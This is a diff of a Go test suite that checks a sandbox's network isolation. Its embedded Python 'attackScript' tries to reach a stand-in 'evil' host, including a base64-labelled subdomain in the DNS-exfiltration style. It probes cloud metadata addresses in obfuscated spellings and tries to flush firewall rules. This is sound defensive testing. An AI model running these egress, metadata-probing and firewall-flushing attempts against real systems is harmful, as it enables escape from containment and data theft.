@@ -58,7 +58,7 @@ func (m *machine) create(t *testing.T, args ...string) string {
 	t.Helper()
 	const bundle = "/workspace/outer.pem"
 	trust := []string{"create"}
-	for _, variable := range []string{"SSL_CERT_FILE", "PIP_CERT", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "CURL_CA_BUNDLE"} {
+	for _, variable := range []string{"SSL_CERT_FILE", "PIP_CERT", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "CURL_CA_BUNDLE", "npm_config_cafile"} {
 		trust = append(trust, "-e", variable+"="+bundle)
 	}
 	id := m.output(t, append(trust, args...)...)
@@ -91,7 +91,7 @@ var programs = []program{
 	{"curl without TLS", "curl", "api.outer.test:80", "curl -fsS -m 20 http://api.outer.test/x"},
 	{"wget", "wget", "*.outer.test:443", "wget -q -T 20 -t 1 -O - --ca-certificate=$SSL_CERT_FILE https://api.outer.test/x"},
 	{"pip", "pip3", "pypi.outer.test", "pip download -q --no-cache-dir --disable-pip-version-check --retries 0 --timeout 20 --no-deps -d /tmp/p -i https://pypi.outer.test/simple outer-hello && cd /tmp/p && unzip -q -o *.whl 2>/dev/null || python3 -m zipfile -e /tmp/p/*.whl /tmp/p && python3 /tmp/p/outer_hello.py"},
-	{"npm", "npm", "npm.outer.test", "mkdir -p /tmp/n && cd /tmp/n && npm install --silent --no-audit --no-fund --fetch-retries=0 --registry https://npm.outer.test/ outer-hello >/dev/null && node -e \"require('outer-hello')\""},
+	{"npm", "npm", "npm.outer.test", "mkdir -p /tmp/n && cd /tmp/n && npm install --loglevel error --no-audit --no-fund --fetch-retries=0 --registry https://npm.outer.test/ outer-hello >&2 && node -e \"require('outer-hello')\""},
 	{"node's fetch", "node", "api.outer.test", "node -e \"fetch('https://api.outer.test/x').then(r => r.text()).then(console.log, e => { console.error(e); process.exit(1) })\""},
 	{"git over HTTPS", "git", "git.outer.test", "rm -rf /tmp/g && GIT_TERMINAL_PROMPT=0 git clone -q https://git.outer.test/hello.git /tmp/g && cat /tmp/g/hello.txt"},
 	{"OpenSSL's client", "openssl", "api.outer.test:443", "printf 'GET /x HTTP/1.0\\r\\nHost: api.outer.test\\r\\n\\r\\n' | timeout 20 openssl s_client -quiet -verify_return_error -CAfile $SSL_CERT_FILE -servername api.outer.test -connect api.outer.test:443"},
@@ -208,9 +208,8 @@ func (i *internet) servePostgres(t *testing.T) {
 	if err := os.WriteFile(filepath.Join(data, "pg_hba.conf"), []byte("host all all 0.0.0.0/0 trust\n"), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	// It ends with the test, whatever happens to it: the namespace is gone then as well.
 	server := exec.CommandContext(context.Background(), filepath.Join(bin, "postgres"), "-D", data, "-k", dir, "-h", "0.0.0.0", "-F")
-	server.SysProcAttr = &syscall.SysProcAttr{Credential: as.Credential, Pdeathsig: syscall.SIGQUIT, Setpgid: true}
+	server.SysProcAttr = &syscall.SysProcAttr{Credential: as.Credential, Setpgid: true}
 	server.Dir, server.WaitDelay = dir, time.Second
 	if err := i.In(server.Start); err != nil {
 		t.Fatal(err)
@@ -253,18 +252,17 @@ func tarOf(t *testing.T, files map[string]string) []byte {
 func TestNothingGetsOut(t *testing.T) {
 	binaries(t)
 	onRuntimes(t, reachable(), func(t *testing.T, runtime string) {
-		i := newInternet(t)
-		m := onMachine(t, i, runtime, "")
 		for _, c := range []struct {
 			name string
 			args []string
 		}{
 			{"T61 T62 with no network", nil},
 			{"T62 T63 T64 T66 with one name allowed", []string{"--allow", "api.outer.test:443"}},
-			{"T63 T64 T65 T68 with everything public", []string{"--network", "open", "--deny", "evil.outer.test"}},
+			{"T63 T64 T65 T68 with everything public", []string{"--network", "open", "--deny", "evil.outer.test", "--deny", "*.evil.outer.test"}},
 		} {
 			t.Run(c.name, func(t *testing.T) {
-				i.Forget()
+				t.Parallel()
+				m := onMachine(t, newInternet(t), runtime, "")
 				id := m.create(t, c.args...)
 				attacks := m.command(t, "exec", "-i", "--timeout", "120s", id, "--", "python3", "-")
 				attacks.Stdin = strings.NewReader(attackScript)
@@ -287,7 +285,7 @@ func (m *machine) checkWire(t *testing.T, output string, rules []string) {
 		switch {
 		case len(rules) > 0 && packet.Protocol == "udp" && to == resolver:
 		case len(rules) > 0 && packet.Protocol == "tcp" && to == m.addresses["api.outer.test"].String()+":443":
-		case open && packet.Protocol == "tcp" && to == "8.8.8.8:443", open && packet.Protocol == "tcp" && to == "8.8.8.8:53":
+		case open && packet.Protocol == "tcp" && slices.Contains([]string{"8.8.8.8", m.addresses["api.outer.test"].String()}, packet.To):
 		default:
 			t.Errorf("on the wire: %v\n%s", packet, output)
 		}
@@ -311,7 +309,7 @@ func (m *machine) checkWire(t *testing.T, output string, rules []string) {
 // attackScript tries one way after another, and says what came of each.
 var attackScript = fmt.Sprintf(`
 import socket, ssl, struct, subprocess, os, urllib.request
-socket.setdefaulttimeout(3)
+socket.setdefaulttimeout(2)
 
 def attempt(name, f):
     try:
@@ -320,15 +318,19 @@ def attempt(name, f):
         print(name, "->", type(e).__name__, e)
 
 def tcp(host, port, send=b"GET / HTTP/1.0\r\nHost: x\r\n\r\n", family=socket.AF_INET):
-    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
+    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(2)
     s.connect((host, port)); s.sendall(send)
-    data = s.recv(200)
-    if data and b"cove" not in data.lower() and b"refused" not in data.lower():
+    data = b""
+    try:
+        while piece := s.recv(1000): data += piece
+    except Exception:
+        pass
+    if data and not (b"403 Forbidden" in data and b"Cove-Error: forbidden" in data):
         return "REACHED %%r" %% data
     return data
 
 def udp(host, port, data, family=socket.AF_INET):
-    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
+    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.3)
     s.sendto(data, (host, port))
     got = s.recv(100)
     return "REACHED %%r" %% got if port != 53 else len(got)
@@ -342,8 +344,8 @@ for name in ["evil.outer.test", "c2VjcmV0.evil.outer.test", "rebound.outer.test"
     attempt("connect by TLS " + name, lambda: tcp(name, 443))
 for server in ["8.8.8.8", "127.0.0.11", "%[1]s"]:
     attempt("DNS by UDP " + server, lambda: udp(server, 53, query))
-    attempt("DNS by TCP " + server, lambda: len(tcp(server, 53, struct.pack(">H", len(query)) + query)) * 0)
-for spelling in ["169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "168.63.129.16", "100.100.100.200", "10.1.2.3", "192.168.1.1", "172.16.0.1", "100.64.0.1", "%[2]s", "%[1]s", "0.0.0.0", "224.0.0.1", "255.255.255.255", "198.51.100.1"]:
+    attempt("DNS by TCP " + server, lambda: "an answer" if tcp(server, 53, struct.pack(">H", len(query)) + query) else "none")
+for spelling in ["169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "168.63.129.16", "100.100.100.200", "10.1.2.3", "192.168.1.1", "172.16.0.1", "100.64.0.1", "%[2]s", "0.0.0.0", "224.0.0.1", "255.255.255.255", "198.51.100.1"]:
     for port in (80, 443, 8080):
         attempt("connect %%s:%%d" %% (spelling, port), lambda: tcp(spelling, port))
 for spelling in ["::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "fd00:ec2::254", "2a0e:1::2", "fe80::1", "2001:4860:4860::8888"]:
@@ -358,7 +360,7 @@ attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).conn
 attempt("SNI of another", lambda: context.wrap_socket(socket.create_connection(("api.outer.test", 443)), server_hostname="api.outer.test").version() and "a connection to the allowed name")
 for port in (80, 22, 8443):
     attempt("the allowed name, port %%d" %% port, lambda: tcp("api.outer.test", port) if port != 80 else "not tried")
-attempt("the public address of an allowed port", lambda: tcp("8.8.8.8", 443))
+attempt("a public address", lambda: "an answer" if tcp("8.8.8.8", 443) else "none")
 for tool in ["iptables -t nat -F", "ip route add default via 127.0.0.1", "ip link add dummy0 type dummy", "nft flush ruleset"]:
     attempt(tool, lambda: subprocess.run(tool.split(), capture_output=True, timeout=5).returncode)
 request = urllib.request.Request("https://api.outer.test/x")
